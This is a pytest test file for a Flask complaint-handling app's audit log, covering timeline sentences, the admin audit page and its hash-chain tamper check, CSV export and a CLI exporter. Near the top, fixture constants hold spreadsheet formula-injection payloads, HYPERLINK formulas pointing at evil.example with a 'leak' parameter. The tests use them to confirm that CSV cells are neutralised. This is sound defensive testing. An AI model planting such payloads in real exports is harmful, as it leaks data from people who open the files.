"""The audit log read by people: sentences on the complaint page, the admin audit page with
its chain check, the CSV download and `flask audit export`."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa

from app.accounts import operations
from app.accounts.models import Role, User
from app.audit import export, history
from app.audit.models import AuditEvent
from app.drafts.models import Draft
from app.drafts.workflow import Action
from app.extensions import db
from tests.fixtures.app import T0
from tests.fixtures.users import make_user
from tests.fixtures.workflow import act, edit, person, start

#: A reviewer's comment that a spreadsheet would run as a formula if given the chance.
FORMULA = '=HYPERLINK("https://evil.example/?leak=1","Open the order")'
PRANK = '=HYPERLINK("https://evil.example","Ada")'
DIRECTION = "We'll find your parcel today and message you with where it is."


@dataclass(frozen=True)
class Story:
    complaint_id: int
    draft_id: int
    #: What the complaint page should say, in order.
    sentences: list[str]


@pytest.fixture
def story(app, users) -> Story:
    """A complaint whose reply was submitted, sent back, edited, resubmitted, approved and
    published, each step through the workflow's own operations."""
    with app.app_context():
        agent, reviewer = person(users, "agent"), person(users, "reviewer")
        draft_id = start(app, users)
        first = act(draft_id, Action.SUBMIT, agent).cooling_off_until
        act(draft_id, Action.REQUEST_CHANGES, reviewer, T0 + timedelta(minutes=5), comment=FORMULA)
        edit(
            db.session.get(Draft, draft_id),
            {"direction": DIRECTION},
            agent,
            T0 + timedelta(minutes=10),
        )
        second = act(draft_id, Action.SUBMIT, agent, T0 + timedelta(minutes=11)).cooling_off_until
        act(draft_id, Action.APPROVE, reviewer, T0 + timedelta(minutes=12))
        act(draft_id, Action.PUBLISH, agent, second + timedelta(seconds=1))
        complaint_id = db.session.get(Draft, draft_id).complaint_id
        db.session.remove()
    return Story(
        complaint_id,
        draft_id,
        [
            "The system added the complaint",
            "Alex Agent started a draft reply",
            "Alex Agent took the complaint",
            f"Alex Agent submitted the draft (revision 1); cooling off until {first:%H:%M} UTC",
            f"Riya Reviewer asked for changes on revision 1: “{FORMULA}”",
            "Alex Agent edited Give direction (now revision 2); 1 review voided",
            f"Alex Agent submitted the draft (revision 2); cooling off until {second:%H:%M} UTC",
            "Riya Reviewer approved revision 2",
            "Alex Agent took revision 2 to post by hand",
        ],
    )


def visible(page) -> str:
    text = page.get_data(as_text=True)
    return html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", text)))


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def event_count(app) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent))


# The complaint page


def test_the_complaint_page_tells_the_history_in_order(client_for, story):
    page = client_for("reviewer").get(f"/complaints/{story.complaint_id}")
    assert page.status_code == 200
    text = visible(page)
    positions = [text.find(sentence) for sentence in story.sentences]
    missing = [sentence for sentence in story.sentences if sentence not in text]
    assert missing == []
    assert positions == sorted(positions)
    assert "cooling off → changes requested" in text
    assert "approved → published" in text
    assert '<time datetime="2026-11-23T09:00:00+00:00">23 Nov 2026, 09:00</time>' in (
        page.get_data(as_text=True)
    )


def test_the_timeline_names_the_actor_and_the_state_change(ctx, story):
    entries = history.timeline(db.session, story.complaint_id)
    assert [entry.sentence for entry in entries] == story.sentences
    assert [entry.actor_name for entry in entries][:3] == [None, "Alex Agent", "Alex Agent"]
    submitted = entries[3]
    assert (submitted.action, submitted.revision) == ("draft.submit", 1)
    assert submitted.state_change == "draft → cooling off"
    assert entries[1].state_change is None  # created: no state before


# Sentences, one wording at a time


def event(action: str, revision: int | None = 3, **details) -> AuditEvent:
    return AuditEvent(action=action, revision=revision, details=details, at=T0)


@pytest.mark.parametrize(
    ("action_event", "sentence"),
    [
        (
            event("draft.submit", 2, cooling_off_until="2026-11-23T09:20:00+00:00"),
            "Alex Agent submitted the draft (revision 2); cooling off until 09:20 UTC",
        ),
        (
            event("draft.request_changes", 2, comment="Drop the ‘simply’"),
            "Alex Agent asked for changes on revision 2: “Drop the ‘simply’”",
        ),
        (event("draft.approve"), "Alex Agent approved revision 3"),
        (
            event("draft.sign_off", group="legal", approved=True),
            "Alex Agent (Legal) signed off revision 3",
        ),
        (
            event("draft.sign_off", group="legal", approved=False),
            "Alex Agent (Legal) refused sign-off on revision 3",
        ),
        (
            event(
                "draft.edited",
                parts=["validate", "close_loop"],
                voided_reviews=1,
                voided_signoffs=2,
                cooling_off_until="2026-11-23T09:30:00+00:00",
            ),
            "Alex Agent edited Validate the concern and Close the loop (now revision 3); "
            "1 review voided, "
            "2 sign-offs voided, cooling-off restarted",
        ),
        (event("draft.withdraw"), "Alex Agent withdrew the draft"),
        (event("publication.delivered"), "The reply was delivered"),
        (
            event("publication.delivered", adapter="manual", url="https://x.com/a/status/1"),
            "Alex Agent marked the reply as posted: https://x.com/a/status/1",
        ),
        (event("draft.publish", 2, adapter="manual"), "Alex Agent took revision 2 to post by hand"),
        (
            event(
                "draft.edited",
                parts=["close_loop", "direction", "responsibility", "validate"],
            ),
            "Alex Agent edited Validate the concern, Take responsibility, Give direction and "
            "Close the loop (now revision 3)",
        ),
        (
            event(
                "settings.workflow_policy_updated",
                None,
                changed={"cooling_off.base_seconds": 1800},
                before={"cooling_off.base_seconds": 900},
                changes=["Base cooling-off: 15 minutes → 30 minutes"],
            ),
            "Alex Agent updated the workflow policy: Base cooling-off: 15 minutes → 30 minutes",
        ),
        (
            event("settings.workflow_policy_updated", None, changed={"x": 1}),
            "Alex Agent updated the workflow policy",  # recorded before old values were
        ),
        (event("publication.failed", error="HTTP 502"), "Delivery failed: HTTP 502"),
        (event("complaint.resolved"), "Alex Agent marked the complaint resolved"),
        (event("refund.issued_twice"), "Alex Agent: refund issued twice"),
        (event("publication.failed"), "Alex Agent: publication failed"),  # no error given
        (event("draft.approve", None), "Alex Agent: draft approve"),  # no revision given
    ],
)
def test_each_action_reads_as_a_sentence(action_event, sentence):
    assert history.describe(action_event, "Alex Agent") == sentence


def test_a_sentence_for_what_nobody_did_names_the_system():
    assert history.describe(event("complaint.created"), None) == "The system added the complaint"


# The admin page


def test_the_audit_page_describes_the_latest_events_and_the_intact_chain(client_for, app, story):
    page = client_for("admin").get("/admin/audit")
    assert page.status_code == 200
    text = visible(page)
    assert f"Audit chain intact: {event_count(app)} events." in text
    assert "Alex Agent took revision 2 to post by hand" in text
    assert text.index("Alex Agent took revision 2 to post by hand") < text.index(
        "started a draft reply"
    )
    assert '<th scope="row">#' in page.get_data(as_text=True)
    assert 'href="/admin" aria-current="page"' in page.get_data(as_text=True)  # the nav link


def test_the_audit_page_filters(client_for, story):
    client = client_for("admin")
    page = client.get(f"/admin/audit?complaint={story.complaint_id}&action=draft.sub")
    text = visible(page)
    assert "2 events match" in text
    assert "submitted the draft (revision 2)" in text
    assert "approved revision" not in text
    assert "/admin/audit.csv?complaint=" in page.get_data(as_text=True)
    assert "0 events match" in visible(client.get("/admin/audit?since=2026-11-24"))
    assert "0 events match" in visible(client.get("/admin/audit?action=%25"))  # no wildcards
    on_the_day = visible(client.get("/admin/audit?since=2026-11-23&until=2026-11-23"))
    assert "Alex Agent took revision 2 to post by hand" in on_the_day


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("since=23/11/2026", "Give a date as YYYY-MM-DD"),
        ("until=2026-02-30", "2026-02-30 is not a date on the calendar."),
        ("since=2026-11-24&until=2026-11-23", "The last day is before the first day."),
        ("until=9999-12-31", "9999-12-31 is too far in the past or future."),
        ("complaint=abc", "Give a complaint number"),
        ("complaint=99999999999", "Give a complaint number"),
        ("action=" + "x" * 65, "At most 64 characters."),
    ],
)
@pytest.mark.parametrize("path", ["/admin/audit", "/admin/audit.csv"])
def test_bad_filters_get_a_message_not_an_error(client_for, path, query, message):
    response = client_for("admin").get(f"{path}?{query}")
    assert response.status_code == 400
    assert message in visible(response)
    assert 'aria-invalid="true"' in response.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/admin/audit", "/admin/audit.csv"])
def test_signed_out_people_are_sent_to_sign_in(plain_app, path):
    response = plain_app.test_client().get(path)
    assert response.status_code == 302
    assert "/login" in response.location


def test_days_are_whole_days_in_the_display_zone():
    filters = export.parse_filters(
        since="2026-07-01", until="2026-07-01", zone=ZoneInfo("Europe/London")
    )
    assert filters.since == datetime(2026, 6, 30, 23, 0, tzinfo=UTC)
    assert filters.until == datetime(2026, 7, 1, 23, 0, tzinfo=UTC)
    assert export.parse_filters(complaint=" #42 ", action=" draft. ") == export.Filters(
        complaint_id=42, action_prefix="draft."
    )
    assert export.parse_filters(since="", until=" ") == export.Filters()


@pytest.mark.parametrize("role", ["agent", "reviewer", "signoff", "norole"])
@pytest.mark.parametrize("path", ["/admin/audit", "/admin/audit.csv"])
def test_only_admins_read_the_audit_log(client_for, role, path):
    assert client_for(role).get(path).status_code == 403


def test_a_forged_event_shows_the_chain_broken(client_for, app, story):
    with app.app_context():
        db.session.execute(
            sa.insert(AuditEvent).values(
                at=T0 + timedelta(days=1),
                actor_id=None,
                action="draft.approve",
                entity_type="draft",
                entity_id=story.draft_id,
                complaint_id=story.complaint_id,
                draft_id=story.draft_id,
                details={},
                prev_hash="f" * 64,
                hash="e" * 64,
            )
        )
        db.session.commit()
        forged = db.session.scalar(sa.select(sa.func.max(AuditEvent.id)))
    page = client_for("admin").get("/admin/audit")
    text = visible(page)
    assert "Audit chain broken in 3 places" in text
    assert f"Event #{forged}: points at a previous event that is not the one before it" in text
    assert f"Event #{forged}: its contents do not match its hash" in text
    assert f"Event #{forged}: comes after the last checkpointed event (#{forged - 1})" in text
    assert "Audit chain intact" not in text


def test_a_removed_checkpoint_shows_the_chain_broken(client_for, app, story):
    with app.app_context():
        db.session.execute(sa.text("DROP TRIGGER audit_checkpoints_no_delete"))
        db.session.execute(sa.text("DELETE FROM audit_checkpoints"))
        db.session.commit()
    text = visible(client_for("admin").get("/admin/audit"))
    assert "Audit chain broken in 1 place" in text
    assert "The checkpoint of the chain's last event is missing: events removed" in text
    assert "Event #None" not in text


# The CSV


def test_the_csv_has_a_header_and_a_row_per_event(client_for, app, story):
    response = client_for("admin").get("/admin/audit.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.is_streamed
    assert (
        response.headers["Content-Disposition"]
        == 'attachment; filename="composure-audit-20261123.csv"'
    )
    header, *rows = rows_of(response)
    assert header == list(export.COLUMNS)
    assert len(rows) == event_count(app)
    assert [int(row[0]) for row in rows] == sorted(int(row[0]) for row in rows)
    record = dict(zip(header, rows[-1], strict=True))
    assert record["action"] == "draft.publish"
    assert record["actor"] == "Alex Agent <agent@example.com>"
    assert record["at"].startswith("2026-11-23T")
    assert record["at"].endswith("+00:00")
    assert (record["from_state"], record["to_state"], record["revision"]) == (
        "approved",
        "published",
        "2",
    )
    created = dict(zip(header, rows[0], strict=True))
    assert created["actor"] == "system"
    assert created["actor_id"] == ""


def test_the_csv_follows_the_filters(client_for, story):
    response = client_for("admin").get(
        f"/admin/audit.csv?complaint={story.complaint_id}&action=draft."
    )
    _, *rows = rows_of(response)
    assert [row[4] for row in rows] == [
        "draft.created",
        "draft.submit",
        "draft.request_changes",
        "draft.edited",
        "draft.submit",
        "draft.approve",
        "draft.publish",
    ]
    assert {row[7] for row in rows} == {str(story.complaint_id)}


def test_no_cell_of_the_csv_runs_as_a_formula(client_for, app, story):
    """The reviewer's comment is kept whole inside the details JSON, whose cell starts with
    "{"; a person named like a formula gets an apostrophe before the actor cell."""
    prankster = make_user(app, "prank@example.com", Role.ADMIN, name=PRANK)
    with app.app_context():
        user = db.session.get(User, prankster.id)
        operations.create_api_token(db.session, user=user, name="cli", actor=user, now=T0)
        db.session.commit()
    header, *rows = rows_of(client_for("admin").get("/admin/audit.csv"))
    column = {name: index for index, name in enumerate(header)}

    def row_for(action: str) -> list[str]:
        return next(row for row in rows if row[column["action"]] == action)

    details = row_for("draft.request_changes")[column["details"]]
    assert details.startswith("{")
    assert json.loads(details) == {"comment": FORMULA}
    assert row_for("api_token.created")[column["actor"]] == f"'{PRANK} <prank@example.com>"
    for row in rows:
        for cell in row:
            assert not cell.startswith(export.FORMULA_STARTS), cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_start_gets_an_apostrophe(start):
    assert export.safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    assert export.safe_cell(f"A1{start}") == f"A1{start}"


def test_write_csv_counts_the_events_it_writes(ctx, story):
    stream = io.StringIO(newline="")
    count = export.write_csv(
        export.events(db.session, complaint_id=story.complaint_id, action_prefix="draft.sub"),
        stream,
        export.actor_labels(db.session),
    )
    assert count == 2
    assert len(list(csv.reader(io.StringIO(stream.getvalue())))) == 3
    empty = io.StringIO()
    assert export.write_csv(export.events(db.session, action_prefix="nothing."), empty, {}) == 0
    assert empty.getvalue() == ",".join(export.COLUMNS) + "\r\n"


# The command line


def test_the_cli_exports_a_complaints_events_to_a_file(app, story, tmp_path):
    target = tmp_path / "audit.csv"
    runner = app.test_cli_runner()
    result = runner.invoke(
        args=["audit", "export", "--complaint", str(story.complaint_id), "--output", str(target)]
    )
    assert result.exit_code == 0, result.output
    assert f"Wrote {len(story.sentences)} events to {target}." in result.output
    with target.open(newline="", encoding="utf-8") as stream:
        header, *rows = csv.reader(stream)
    assert header == list(export.COLUMNS)
    assert [row[4] for row in rows][:2] == ["complaint.created", "draft.created"]
    assert len(rows) == len(story.sentences)

    result = runner.invoke(args=["audit", "export", "--since", "2026-11-24"])
    assert result.exit_code == 0, result.output
    assert result.output.strip() == ",".join(export.COLUMNS)

    result = runner.invoke(args=["audit", "export", "--until", "23/11/2026"])
    assert result.exit_code == 2
    assert "--until: Give a date as YYYY-MM-DD" in result.output


def test_date_fields_claim_no_format_and_dates_read_unambiguously(client_for, app):
    """`<input type=date>` shows the browser's own format (mm/dd/yyyy in the US, dd/mm/yyyy
    elsewhere): the hint names the time zone the days are counted in, not a format."""
    page = client_for("admin").get("/admin/audit")
    markup = page.get_data(as_text=True)
    assert markup.count('type="date"') == 2
    assert "YYYY" not in markup
    assert "The first day included (days in UTC)" in visible(page)
    from app.web.filters import localtime

    with app.test_request_context():
        assert localtime(datetime(2026, 12, 7, 14, 2, tzinfo=UTC)) == "7 Dec 2026, 14:02"
        assert localtime(datetime(2026, 12, 7, 14, 2, tzinfo=UTC), "%H:%M", zone=True) == (
            "14:02 UTC"
        )
